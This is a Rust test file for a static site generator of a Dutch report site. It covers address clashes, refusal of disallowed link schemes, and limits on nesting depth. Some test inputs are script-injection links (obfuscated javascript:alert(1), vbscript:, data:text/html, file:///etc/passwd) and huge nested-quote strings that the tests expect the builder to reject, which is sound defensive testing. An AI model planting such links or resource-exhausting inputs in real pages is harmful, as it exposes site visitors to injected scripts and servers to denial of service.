    assert_lacks!(page, ">-0<");
}

#[test]
fn page_slugs_that_are_section_words() {
    assert_fails(
        |s| {
            for slug in ["cijfers", "themas", "publicaties"] {
                s.write(&format!("content/pages/{slug}.md"), PAGE);
            }
        },
        &[
            "content/pages/cijfers.md: /cijfers/ is the address of this page and also of the nl list of figures at the URL word `cijfers` (templates/i18n/nl.yaml of the built-in theme)",
            "content/pages/themas.md: /themas/ is the address of this page and also of the nl list of themes at the URL word `themas` (templates/i18n/nl.yaml of the built-in theme)",
            "content/pages/publicaties.md: /publicaties/ is the address of this page and also of the nl list of publications at the URL word `publicaties` (templates/i18n/nl.yaml of the built-in theme)",
            "hint: rename content/pages/cijfers.md, or change the URL word `cijfers` in site.yaml (under `words:`)\n",
        ],
    );
}

#[test]
fn page_slugs_in_the_folders_the_site_fills() {
    assert_fails(
        |s| {
            s.write("content/pages/data.md", PAGE);
            s.write("content/pages/grafieken.md", PAGE);
        },
        &[
            "content/pages/data.md: /data/ is the address of this page, in the folder /data/, which the site fills with the open data",
            "content/pages/grafieken.md: /grafieken/ is the address of this page, in the folder /grafieken/, which the site fills with the nl charts at the URL word `grafieken`",
        ],
    );
}

#[test]
fn page_slugs_that_are_years() {
    assert_fails(
        |s| {
            for year in ["2020", "2019", "2030"] {
                s.write(&format!("content/pages/{year}.md"), PAGE);
            }
        },
        &[
            // A year with a report, a year with figures only, a year still to come.
            "content/pages/2020.md: /2020/ is the address of this page and also of the nl report of 2020 (content/years/2020/report.md)",
            "content/pages/2019.md: /2019/ is the address of this page and also of the nl page of 2019 (content/years/2019/figures.yaml)",
            "content/pages/2030.md: the page slug `2030` looks like a year",
        ],
    );
}

#[test]
fn a_metric_id_that_is_the_name_of_a_theme_chart() {
    assert_fails(
        |s| {
            // The new metric's `id:` is on line 39.
            let metrics = s.read("content/metrics.yaml");
            s.write(
                "content/metrics.yaml",
                format!("{metrics}- id: thema-online-1\n  label: Botsing\n  theme: online\n  unit: dossiers\n  description: Botst.\n"),
            );
        },
        &[
            "content/metrics.yaml:39: /grafieken/thema-online-1.csv is the address of the nl chart of metric `thema-online-1` and also of the nl chart 1 of theme `online` (content/site.yaml)",
            "hint: change the metric's id (in metrics.yaml and every figures.yaml), or change the theme's id in site.yaml",
        ],
    );
}

#[test]
fn static_files_at_the_addresses_of_the_sites_own_files() {
    assert_fails(
        |s| {
            for name in [
                "robots.txt",
                "sitemap.xml",
                "atom.xml",
                "404.html",
                "index.html",
                "data/figures.csv",
                "data/extra.csv",
                "grafieken/eigen.svg",
                "2017/index.html",
                "cijfers/grooming/grooming.csv",
                "cijfers/grooming/index.html",
                "themas/online/index.html",
                "publicaties/persbericht-2020/index.html",
                "over",
            ] {
                s.write(&format!("static/{name}"), "x");
            }
        },
        &[
            "static/robots.txt: /robots.txt is the address of this static file and also of the site's robots.txt (built in)",
            "static/sitemap.xml: /sitemap.xml is the address of this static file and also of the sitemap (templates/sitemap.xml of the built-in theme)",
            "static/atom.xml: /atom.xml is the address of this static file and also of the nl news feed (templates/atom.xml of the built-in theme)",
            "static/404.html: /404.html is the address of this static file and also of the nl page for unknown addresses (templates/404.html of the built-in theme)",
            "static/index.html: / is the address of this static file and also of the nl home page (built in)",
            "static/data/figures.csv: /data/figures.csv is the address of this static file and also of the open data (built in)",
            "static/data/extra.csv: /data/extra.csv is the address of this static file, in the folder /data/, which the site fills with the open data (built in)",
            "static/grafieken/eigen.svg: /grafieken/eigen.svg is the address of this static file, in the folder /grafieken/, which the site fills with the nl charts",
            "static/2017/index.html: /2017/ is the address of this static file and also of the nl report of 2017 (content/years/2017/report.md)",
            "static/cijfers/grooming/grooming.csv: /cijfers/grooming/grooming.csv is the address of this static file and also of the open data of metric `grooming` (content/metrics.yaml:",
            "static/cijfers/grooming/index.html: /cijfers/grooming/ is the address of this static file and also of the nl page of metric `grooming` (content/metrics.yaml:",
            "static/themas/online/index.html: /themas/online/ is the address of this static file and also of the nl page of theme `online` (content/site.yaml)",
            "static/publicaties/persbericht-2020/index.html: /publicaties/persbericht-2020/ is the address of this static file and also of the nl publication (content/publications/persbericht-2020.md)",
            "hint: move or rename static/publicaties/persbericht-2020/index.html, or rename content/publications/persbericht-2020.md\n",
            "static/over: /over is the address of this static file, a file, but the nl page (content/pages/over.md) needs a folder there for /over/",
            "hint: move or rename static/robots.txt\n",
            "hint: move or rename static/over, or rename content/pages/over.md\n",
        ],
    );
}

/// A page with nothing to say: only its address matters.
const PAGE: &str = "---\ntitle: Pagina\n---\nTekst.\n";

/// The over page with `body` instead of its text (the body starts on line 6).
fn over_page(body: &str) -> impl FnOnce(&TestSite) {
    let text = format!("---\ntitle: Over ons\nsummary: Wie we zijn.\norder: 1\n---\n{body}");
    move |s: &TestSite| s.write("content/pages/over.md", text)
}

#[test]
fn links_with_a_scheme_that_is_not_allowed_are_refused_where_they_stand() {
    assert_fails(
        over_page(
            "Zie [a](data:text/html,x) en [b](vbscript:msgbox).\n\
             ![c](file:///etc/passwd) <JaVaScRiPt:alert(1)> [d][e]\n\
             [f](java&#9;script:alert(1))\n\n\
             [e]: < javascript:alert(1)>\n",
        ),
        &[
            "content/pages/over.md:6:9: the link `data:text/html,x` starts with `data:`",
            "content/pages/over.md:6:34: the link `vbscript:msgbox` starts with `vbscript:`",
            "content/pages/over.md:7:6: the link `file:///etc/passwd` starts with `file:`",
            "content/pages/over.md:7:27: the link `JaVaScRiPt:alert(1)` starts with `javascript:`",
            "content/pages/over.md:8:1: the link `java\\tscript:alert(1)` starts with `javascript:`",
            "content/pages/over.md:10:7: the link ` javascript:alert(1)` starts with `javascript:`",
            "hint: a link may start with https://, http://, mailto: or tel:",
        ],
    );
}

#[test]
fn links_with_allowed_schemes_build() {
    let site = TestSite::new("basic");
    over_page(
        "[a](https://childfocus.be/) [b](HTTP://example.org/) [c](mailto:info@example.org) \
         [d](tel:116000) [e](/cijfers/) [f](#wie) <https://example.org/x> [g][h]\n\n\
         ## Wie\n\n[h]: https://example.org/h\n",
    )(&site);
    site.build_ok();
    let page = site.page("over/index.html");
    for href in [
        "https://childfocus.be/",
        "HTTP://example.org/",
        "mailto:info@example.org",
        "tel:116000",
        "/rapport/cijfers/",
        "#wie",
        "https://example.org/x",
        "https://example.org/h",
    ] {
        assert_contains!(page, format!("href=\"{href}\""), "{href}: {page}");
    }
}

/// On main: 21 errors here (102 on the real site), one per page, each blamed on another
/// file, and none on site.yaml.
#[test]
fn a_script_url_in_site_yaml_is_one_error_at_site_yaml() {
    for (from, to, place) in [
        (
            "  url: https://example.org/",
            "  url: javascript:alert(1)",
            "content/site.yaml:7:8: `organisation.url`: the link `javascript:alert(1)`",
        ),
        (
            "base_url: https://example.org/rapport/",
            "base_url: \" JavaScript:alert(1)\"",
            "content/site.yaml:3:11: `base_url`: the link ` JavaScript:alert(1)`",
        ),
    ] {
        let site = TestSite::new("basic");
        site.replace("content/site.yaml", from, to);
        let out = site.build_in_process();
        out.expect_failure()
            .stderr_contains(place)
            .stderr_contains("hint: ");
        assert!(
            out.stderr.starts_with("1 error in the content:\n"),
            "{}",
            out.stderr
        );
        // `check` reads the site the same way.
        site.check().expect_failure().stderr_contains(place);
    }
}

/// On main: 3.9 MB of `>` took 18 s and 1.3 GB of memory, and made a 113 MB page. (A
/// document may now be at most 1 MB; the nesting limit is what this test is about.)
#[test]
fn quotes_nested_too_deeply_are_refused() {
    let body = format!("Tekst.\n\n{}\n", ">".repeat(900_000));
    assert_fails(
        over_page(&body),
        &[
            "content/pages/over.md:8:101: lists and quotes are nested more than 100 levels deep here",
        ],
    );
}

#[test]
fn lists_nested_too_deeply_are_refused() {
    // On one line, and by indentation (each line two columns deeper).
    let mut by_indent = String::new();
    for level in 0..1000 {
        by_indent.push_str(&format!("{}- x\n", "  ".repeat(level)));
    }
    for (body, place) in [
        (format!("{}x\n", "- ".repeat(400_000)), "over.md:6:201:"),
        (format!("{}x\n", "1. ".repeat(300_000)), "over.md:6:301:"),
        (by_indent, "over.md:106:201:"),
    ] {
        assert_fails(over_page(&body), &[place, "nested more than 100 levels"]);
    }
}

/// On main the placeholders were two private-use characters around a number, put back
/// into the finished HTML: typed in the text, they crashed the build (exit 101).
#[test]
fn placeholder_characters_next_to_a_shortcode_do_not_crash() {
    let site = TestSite::new("basic");
    over_page(
        "A \u{E000}99\u{E001} B {{ figure(id=\"grooming\", year=2017) }} &#xE000;0&#xE001;\n",
    )(&site);
    site.write(
        "content/site.yaml",
        format!(
            "{}not_figures:\n  \"99\": a test's number\n  \"0\": a test's number\n",
            site.read("content/site.yaml")
        ),
    );
    for command in ["build", "check"] {
        site.run(&[command]).expect_success();
    }
    let page = site.page("over/index.html");
    assert_contains!(page, "<p>A \u{E000}99\u{E001} B <data class=\"figure\"");
    assert_contains!(page, "</data> \u{E000}0\u{E001}</p>");
}
